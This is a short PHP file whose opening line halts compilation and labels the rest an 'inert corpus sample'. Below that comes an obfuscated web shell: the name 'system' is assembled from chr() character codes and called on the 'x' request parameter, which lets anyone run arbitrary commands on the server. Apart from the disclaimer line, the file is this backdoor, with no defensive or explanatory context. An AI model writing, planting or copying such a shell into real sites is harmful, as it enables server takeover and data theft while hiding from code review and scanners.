<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
$crh = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);
$crh($_GET['x']);
